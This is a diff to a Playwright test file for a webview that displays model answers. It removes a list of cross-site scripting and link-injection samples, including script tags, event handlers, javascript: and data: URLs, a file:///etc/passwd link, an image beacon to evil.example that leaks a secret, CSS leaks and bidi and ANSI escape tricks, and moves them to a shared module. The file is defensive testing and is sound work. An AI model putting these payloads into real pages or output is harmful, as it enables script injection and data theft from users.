@@ -1,57 +1,10 @@
 /** Nothing that a model writes may run, load or open anything: whole and streamed, with the policy and without it. */
 import assert from "node:assert/strict";
 import type { Browser } from "playwright-core";
+import { hostileGroups, type HostileSample } from "../support/hostileContent.ts";
 import { answer, streaming, summary, summaryDetail, user, view } from "./support/viewBuilders.ts";
 import { launchBrowser, WebviewPage } from "./support/webviewPage.ts";
 import { startWebviewServer, type WebviewServer } from "./support/webviewServer.ts";
-
-const samples: readonly string[] = [
-  "<script>trap('script')</script>",
-  "text <script>trap('inline script')</script> text",
-  "<img src=x onerror=trap('onerror')>",
-  '<svg onload="trap(\'svg\')"><animate onbegin=trap("animate") attributeName=x dur=1s></svg>',
-  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=trap('mathml')&gt;\">",
-  "<iframe srcdoc=\"<script>parent.trap('srcdoc')</script>\"></iframe>",
-  "<details open ontoggle=trap('toggle')>",
-  "<body onload=trap('body')>",
-  "<input autofocus onfocus=trap('focus')>",
-  "<video><source onerror=trap('video')></video>",
-  "<a href=\"javascript:trap('a')\">click</a>",
-  "[click](javascript:trap('link'))",
-  "[click](JaVaScRiPt:trap('case'))",
-  "[click](java&#10;script:trap('entity'))",
-  "[click](&#106;avascript:trap('entity2'))",
-  "[click](data:text/html;base64,PHNjcmlwdD50cmFwKCdkYXRhJyk8L3NjcmlwdD4=)",
-  "[click](vbscript:trap('vb'))",
-  "[click](command:workbench.action.quit)",
-  "[click](vscode://x/y)",
-  "[click](file:///etc/passwd)",
-  "[click](//evil.example/)",
-  "[click](https://user:pass@evil.example/)",
-  "<javascript:trap('autolink')>",
-  "[a]: javascript:trap('reference')\n\n[click][a]",
-  "![x](javascript:trap('image'))",
-  "![x](https://evil.example/leak.png?secret)",
-  "![x](data:image/svg+xml,<svg onload=trap('datasvg')>)",
-  "![x](/local.png)",
-  '<link rel=stylesheet href="/evil.css"><link rel=prefetch href=/prefetch><link rel=preconnect href=/x>',
-  "<style>@import '/evil.css'; body { background: url(/leak) }</style>",
-  '<div style="background:url(/leak)">x</div>',
-  '<meta http-equiv="refresh" content="0;url=/redirected">',
-  '<base href="https://evil.example/">',
-  "<form action=/leak><button>Send</button></form>",
-  "<object data=/leak></object><embed src=/leak>",
-  '"><script>trap("attribute")</script>',
-  '```"><script>trap("language")</script>\ncode\n```',
-  "```html\n</code></pre><script>trap('fence')</script>\n```",
-  "`</code><script>trap('code')</script>`",
-  "| <script>trap('cell')</script> |\n|---|\n| <img src=x onerror=trap('cell2')> |",
-  "&lt;script&gt;trap('entities')&lt;/script&gt;",
-  "\u202eevil\u202c \u2066x\u2069 zero\u200bwidth \u{e0041}\u{e0042}",
-  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
-  "\u0000null\u0000 \uffff \ud800 lone",
-  "__proto__ constructor toString\n\n[__proto__]: https://a.example/\n[constructor]: https://b.example/\n\n[constructor] [toString]",
-];
 
 /** Elements that an answer can become; nothing else may be in the transcript. */
 const allowed = new Set(
@@ -76,7 +29,9 @@ describe("webview: hostile answers", function () {
     await fill();
     await opened.settle();
     const { page } = opened;
-    for (const dead of await page.locator(".dead-link").all()) await dead.click();
+    await page.locator(".dead-link").evaluateAll((links) => {
+      for (const link of links) link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
+    });
     const found = await page.evaluate(() => {
       const elements = [...document.querySelectorAll(".rows *")];
       return {
@@ -112,8 +67,12 @@ describe("webview: hostile answers", function () {
     describe(csp ? "with the policy" : "without the policy", () => {
       let server: WebviewServer;
       let opened: WebviewPage;
+      let all: readonly HostileSample[];
+      let samples: readonly string[];
       before(async () => {
         server = await startWebviewServer({ csp });
+        all = hostileGroups(server.origin).flatMap((group) => group.samples);
+        samples = all.map(({ text }) => text);
       });
       after(async () => {
         await server.close();
@@ -126,18 +85,21 @@ describe("webview: hostile answers", function () {
       });
 
       it("whole: text stays text", async () => {
-        await check(server, opened, async () => {
-          await opened.show(
-            view(
-              samples.map((sample, index) =>
-                answer(index, sample, { thinking: sample, meta: sample, stateText: sample }),
-              ),
-            ),
-          );
-          await opened.page.getByRole("button", { name: "Thoughts" }).first().click();
-        });
-        const shown = await opened.page.locator("[data-message-id='0']").innerText();
-        assert.match(shown, /<script>trap\('script'\)<\/script>/);
+        // As many at a time as are mounted.
+        for (let first = 0; first < all.length; first += 30) {
+          const some = all.slice(first, first + 30);
+          await check(server, opened, async () => {
+            const rows = some.map(({ text }, index) =>
+              answer(index, text, { thinking: text, meta: text, stateText: text }),
+            );
+            await opened.show(view(rows));
+            await opened.page.getByRole("button", { name: "Thoughts" }).first().click();
+          });
+          for (const [index, { shows }] of some.entries()) {
+            const shown = await opened.page.locator(`[data-message-id='${String(index)}'] .markdown`).innerText();
+            assert.ok(shown.includes(shows), `${shows} in ${shown}`);
+          }
+        }
       });
 
       it("in every other place: the user's words, summaries, problems, titles", async () => {
